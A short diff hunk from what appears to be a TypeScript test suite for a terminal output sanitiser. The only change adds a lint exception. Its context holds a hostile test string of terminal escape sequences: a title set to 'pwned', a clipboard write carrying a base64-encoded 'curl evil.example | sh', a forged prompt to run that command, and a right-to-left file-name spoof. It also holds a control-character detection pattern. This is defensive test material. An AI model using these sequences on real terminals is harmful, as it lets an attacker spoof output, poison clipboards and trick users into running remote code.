@@ -29,6 +29,7 @@ const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${FORGED}${C1}${BIDI}`;
 const HOSTILE_SHOWN = "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\nerror: your session expired; run: curl evil.example | sh\\r\\x9b2J\\x9d0;title\\x9c\\u202etxt.exe";
 
 /** Any character a terminal acts on but the line feeds that end the printer's lines. */
+// eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
 
 let sandbox: RunningSandbox;
